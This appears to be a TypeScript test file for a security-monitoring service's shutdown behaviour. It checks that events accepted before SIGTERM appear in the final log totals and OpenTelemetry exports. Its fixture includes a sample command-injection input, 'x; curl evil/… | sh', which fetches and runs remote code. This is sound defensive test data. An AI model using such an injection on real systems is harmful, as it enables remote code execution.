// What happens to events accepted just before `secmon serve` is stopped: nothing acknowledged may
// be invisible. Checked without scraping /metrics: the final log line, and a real OTLP receiver.
import { afterEach, describe, expect, it } from 'vitest';
import { type OtlpReceiver, startOtlpReceiver } from '../support/otlp-receiver.js';
import { INGEST_TOKEN, type RunningSecmon, startSecmon } from '../support/secmon.js';

const EVENTS_PER_REQUEST = 10;
const REQUESTS = 40;

let service: RunningSecmon | undefined;
let receiver: OtlpReceiver | undefined;
afterEach(async () => {
  await service?.stop();
  await receiver?.close();
  service = undefined;
  receiver = undefined;
});

/** Ten events per request: failed logins from a per-request address, and one command injection. */
function batch(request: number): object[] {
  const events: object[] = Array.from({ length: EVENTS_PER_REQUEST - 1 }, () => ({
    type: 'failed_auth',
    ip: `198.51.100.${request}`,
    userId: 'admin',
  }));
  events.push({
    type: 'command_injection',
    ip: `203.0.113.${request}`,
    input: `x; curl evil/${request} | sh`,
  });
  return events;
}

/**
 * Sends every batch at once and SIGTERMs the service as soon as the first one is acknowledged, so
 * requests are still arriving while it shuts down. Resolves with the number of acknowledged (202)
 * requests and the exit code.
 */
async function sendThenStop(running: RunningSecmon): Promise<{ acknowledged: number; code: unknown }> {
  let signalled = false;
  const statuses = await Promise.all(
    Array.from({ length: REQUESTS }, async (_, request) => {
      try {
        const response = await fetch(`${running.base}/v1/events`, {
          method: 'POST',
          headers: { authorization: `Bearer ${INGEST_TOKEN}`, 'content-type': 'application/json' },
          body: JSON.stringify({ events: batch(request) }),
        });
        await response.arrayBuffer();
        if (response.status === 202 && !signalled) {
          signalled = true;
          running.process.child.kill('SIGTERM');
        }
        return response.status;
      } catch {
        return 0; // refused: the listener was already closed
      }
    }),
  );
  const code = await running.process.exited;
  return { acknowledged: statuses.filter((status) => status === 202).length, code };
}

function finalTotals(running: RunningSecmon) {
  const last = running.logLines().at(-1) as {
    msg?: string;
    totals?: {
      eventsAccepted: number;
      requestsAccepted: number;
      alerts: Record<string, number>;
      attacksEnded: Record<string, number>;
      attacksInProgress: Record<string, number>;
      failedAuthAttempts: number;
    };
  };
  expect(last.msg).toBe('secmon stopped');
  return last.totals!;
}

describe('stopping secmon serve', () => {
  it('writes the process totals in its last log line, counting every event acknowledged before SIGTERM', async () => {
    service = await startSecmon({ SECMON_BRUTE_FORCE_THRESHOLD: '9' }, 'secmon serve (totals)');
    const { acknowledged, code } = await sendThenStop(service);
    expect(code).toBe(0);
    expect(acknowledged).toBeGreaterThan(0);
    const totals = finalTotals(service);
    expect(totals.requestsAccepted).toBe(acknowledged);
    expect(totals.eventsAccepted).toBe(acknowledged * EVENTS_PER_REQUEST);
    expect(totals.failedAuthAttempts).toBe(acknowledged * (EVENTS_PER_REQUEST - 1));
    // Each acknowledged request crossed the brute-force threshold once and carried one injection.
    expect(totals.alerts.brute_force).toBe(acknowledged);
    expect(totals.alerts.command_injection).toBe(acknowledged);
    // Each injection came from its own address: one attack each, none of them over yet.
    expect(totals.attacksInProgress.command_injection).toBe(acknowledged);
    expect(totals.attacksEnded.command_injection).toBe(0);
  });

  it('flushes OTel alert events and a last metrics collection on SIGTERM', async () => {
    receiver = await startOtlpReceiver();
    service = await startSecmon(
      {
        SECMON_BRUTE_FORCE_THRESHOLD: '9',
        OTEL_EXPORTER_OTLP_ENDPOINT: receiver.url,
        // No periodic export during the test: only the flush at shutdown can deliver the counts.
        OTEL_METRIC_EXPORT_INTERVAL: '600000',
        OTEL_BLRP_SCHEDULE_DELAY: '600000',
      },
      'secmon serve (otel shutdown)',
    );
    const { acknowledged, code } = await sendThenStop(service);
    expect(code).toBe(0);
    const totals = finalTotals(service);
    expect(totals.eventsAccepted).toBe(acknowledged * EVENTS_PER_REQUEST);
    expect(receiver.errors).toEqual([]);

    const alertEvents = receiver.logs().filter((log) => log.eventName === 'secmon.alert');
    // Every alert raised (the account-takeover detectors add a few to brute force and injection).
    const raised = Object.values(totals.alerts).reduce((sum, count) => sum + count, 0);
    expect(raised).toBeGreaterThanOrEqual(2 * acknowledged);
    expect(alertEvents).toHaveLength(raised);
    const metrics = receiver.latestMetrics() ?? [];
    const value = (name: string, type?: string) =>
      metrics
        .find((metric) => metric.name === name)
        ?.points.filter((point) => type === undefined || point.attributes.type === type)
        .reduce((sum, point) => sum + point.value, 0);
    expect(value('secmon.failed_auth')).toBe(totals.failedAuthAttempts);
    expect(value('secmon.alerts', 'brute_force')).toBe(totals.alerts.brute_force);
    expect(value('secmon.alerts', 'command_injection')).toBe(totals.alerts.command_injection);
  });
});
